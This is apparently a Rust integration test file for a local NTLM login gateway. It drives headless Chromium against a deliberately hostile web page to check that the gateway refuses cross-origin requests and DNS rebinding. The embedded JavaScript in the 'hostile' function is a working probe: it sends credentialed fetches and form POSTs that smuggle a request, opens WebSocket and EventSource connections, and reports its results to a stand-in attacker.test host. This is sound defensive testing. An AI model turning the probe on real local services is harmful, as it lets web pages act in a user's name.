//! A page of another site, in a browser, and all that the gateway listens at.

use std::net::SocketAddr;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use legwork::testing::{Offer, Server};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;

use crate::folder::Folder;
use crate::gateway::Gateway;

const PASSWORD: &str = "carol-pw";

/// Chromium without a window, whose names lead to this machine.
struct Browser {
    process: Child,
    _profile: Folder,
}

impl Browser {
    fn command(profile: &Folder, arguments: &[&str]) -> Command {
        let mut chromium = Command::new("chromium");
        chromium.args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"]);
        chromium.args(["--disable-background-networking", "--disable-component-update", "--disable-sync"]);
        chromium.arg("--disable-dev-shm-usage").arg(format!("--user-data-dir={}", profile.0.display()));
        chromium.arg("--host-resolver-rules=MAP *.attacker.test 127.0.0.1");
        chromium
            .args(["--proxy-server=direct://"])
            .args(arguments)
            .env("HOME", &profile.0)
            .stderr(Stdio::null());
        chromium
    }

    fn at(url: &str) -> Self {
        let profile = Folder::new("browser");
        let mut chromium = Self::command(&profile, &["--remote-debugging-port=0", url]);
        Self { process: chromium.stdout(Stdio::null()).spawn().expect("chromium runs"), _profile: profile }
    }

    /// What a page has become when it is loaded.
    fn content(url: &str) -> String {
        let profile = Folder::new("content");
        let output = Self::command(&profile, &["--dump-dom", url]).output().expect("chromium runs");
        String::from_utf8(output.stdout).expect("UTF-8")
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

/// A web server that has one page, and is told by it what has happened.
struct Site {
    address: SocketAddr,
    told: mpsc::UnboundedReceiver<String>,
}

impl Site {
    async fn with(page: impl Fn(SocketAddr) -> String + Send + Sync + 'static) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let address = listener.local_addr().expect("it listens");
        let (tell, told) = mpsc::unbounded_channel();
        let page = page(address);
        tokio::spawn(async move {
            while let Ok((stream, _)) = listener.accept().await {
                tokio::spawn(answer(stream, page.clone(), tell.clone()));
            }
        });
        Self { address, told }
    }

    /// What the page tells when it has tried all.
    async fn told(&mut self) -> String {
        let told = tokio::time::timeout(Duration::from_secs(120), self.told.recv()).await;
        told.expect("the page tries all of it").expect("the site is there")
    }
}

async fn answer(
    mut stream: TcpStream,
    page: String,
    tell: mpsc::UnboundedSender<String>,
) -> std::io::Result<()> {
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        head.push(stream.read_u8().await?);
    }
    let head = String::from_utf8_lossy(&head);
    let target = head.split(' ').nth(1).unwrap_or_default();
    let content = match target.strip_prefix("/told?") {
        Some(told) => {
            let _ = tell.send(told.to_owned());
            String::new()
        }
        None if target == "/" => page,
        None => String::new(),
    };
    let head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n";
    stream.write_all(format!("{head}Content-Length: {}\r\n\r\n{content}", content.len()).as_bytes()).await
}

/// A page that tries every way to every address that a page has, and tells which of them it has read something by.
fn hostile(addresses: &[String], origin: &Server) -> String {
    let addresses = addresses.iter().map(|address| format!("'{address}',")).collect::<String>();
    // What a proxy, or a server behind one, would take for the next request, if it were one.
    let inner = format!("GET {} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", origin.uri("/by-form"));
    format!(
        "<!doctype html><body><script>
const read = [];
const settled = what => new Promise(done => {{ what(done); setTimeout(done, 4000); }});
const tries = [];
for (const address of [{addresses}]) {{
  const url = 'http://' + address + '/by-';
  for (const options of [
    {{}}, {{mode: 'no-cors', credentials: 'include'}}, {{credentials: 'include'}}, {{method: 'PUT', body: 'x'}},
    {{method: 'POST', mode: 'no-cors', headers: {{'content-type': 'text/plain'}}, body: '{inner}'}},
    {{mode: 'no-cors', referrerPolicy: 'no-referrer'}}, {{headers: {{'x-own': '1'}}}},
  ]) {{
    tries.push(fetch(url + 'fetch', options).then(async it => {{ if (await it.text()) read.push(url); }}, () => 0));
  }}
  for (const [name, source] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['video', 'src'], ['object', 'data'], ['link', 'href']]) {{
    tries.push(settled(done => {{
      const it = document.createElement(name);
      if (name === 'link') it.rel = 'stylesheet';
      it.onload = it.onerror = done;
      it[source] = url + name;
      document.body.append(it);
    }}));
  }}
  for (const kind of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data']) {{
    tries.push(settled(done => {{
      const frame = document.createElement('iframe'), form = document.createElement('form'), field = document.createElement('input');
      frame.name = 'f' + Math.random();
      frame.onload = done;
      Object.assign(form, {{method: 'POST', action: url + 'form', enctype: kind, target: frame.name}});
      Object.assign(field, {{name: '{inner}', value: 'x'}});
      form.append(field);
      document.body.append(frame, form);
      form.submit();
    }}));
  }}
  tries.push(settled(done => {{
    const socket = new WebSocket('ws://' + address + '/upgrade');
    socket.onopen = () => {{ read.push('ws'); done(); }};
    socket.onerror = done;
  }}));
  tries.push(settled(done => {{ const it = new EventSource(url + 'events'); it.onmessage = () => read.push('events'); it.onerror = done; }}));
  navigator.sendBeacon(url + 'beacon', 'x');
}}
Promise.all(tries).then(() => fetch('http://site.attacker.test:SITE/told?' + encodeURIComponent(read.join(' ')), {{mode: 'no-cors'}}));
</script>"
    )
}

async fn origin() -> Server {
    let origin = Server::builder().user("LAB\\carol", PASSWORD).offer(Offer::Ntlm);
    origin
        .page("<!doctype html><title>inside</title><p id=it>a page of carol")
        .start()
        .await
        .expect("a server")
}

async fn metric(gateway: &Gateway, name: &str) -> u64 {
    let mut stream = TcpStream::connect(gateway.address).await.expect("it listens");
    let request = format!("GET /metrics HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n", gateway.address);
    stream.write_all(request.as_bytes()).await.expect("sent");
    let mut answer = String::new();
    stream.read_to_string(&mut answer).await.expect("an answer");
    let value = answer.lines().find_map(|line| line.strip_prefix(name)?.trim().parse().ok());
    value.unwrap_or_else(|| panic!("{name}: {answer}"))
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: tests/run"]
async fn a_hostile_page_does_nothing_in_the_users_name() {
    let origin = origin().await;
    let (serve, its) = (format!("127.0.0.1:0={}", origin.origin()), origin.origin().to_string());
    let arguments = ["--listen", "127.0.0.1:0", "--serve", &serve, "--login-at", &its];
    let gateway = Gateway::of("LAB\\carol", PASSWORD, &arguments);
    let listeners: Vec<_> = gateway.addresses().iter().map(SocketAddr::port).collect();
    assert_eq!(listeners.len(), 2);
    // By address, by name, and by the attacker's names, which lead here as well.
    let hosts = ["127.0.0.1", "localhost", "[::ffff:127.0.0.1]", "rebound.attacker.test"];
    let addresses = listeners.iter().flat_map(|port| hosts.map(|host| format!("{host}:{port}")));
    let addresses: Vec<_> = addresses.collect();

    let page = hostile(&addresses, &origin);
    let mut site = Site::with(move |own| page.replace("SITE", &own.port().to_string())).await;
    let browser = Browser::at(&format!("http://site.attacker.test:{}/", site.address.port()));
    assert_eq!(site.told().await, "", "what a page has read");
    drop(browser);

    // The page itself at a name of the attacker's that leads to the listener: DNS rebinding.
    for port in &listeners {
        let content = Browser::content(&format!("http://rebound.attacker.test:{port}/"));
        assert!(content.contains("Host is not this listener's"), "{content}");
    }
    assert_eq!(origin.report().connections().len(), 0, "{}", origin.report());
    // There were requests, and they were refused.
    let refused = metric(&gateway, "legwork_gateway_refusals_total ").await;
    assert!(refused >= 20 * addresses.len() as u64 / 2, "{refused}");
    assert_eq!(metric(&gateway, "legwork_gateway_logins_total ").await, 0);
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: tests/run"]
async fn a_browser_shows_the_page_of_an_origin_and_the_gateways_own() {
    let origin = origin().await;
    let serve = format!("127.0.0.1:0={}", origin.origin());
    let gateway = Gateway::of("LAB\\carol", PASSWORD, &["--listen", "127.0.0.1:0", "--serve", &serve]);
    let [proxy, served] = gateway.addresses()[..] else { panic!("two listeners") };
    let content = Browser::content(&format!("http://{served}/"));
    assert!(content.contains("a page of carol"), "{content}");
    assert!(origin.report().handshakes() >= 1, "{}", origin.report());
    let page = Browser::content(&format!("http://{proxy}/"));
    assert!(page.contains("<h1>legwork gateway</h1>"), "{page}");
    assert!(page.contains("Requests with which a login was accepted</th><td>1"), "{page}");
}
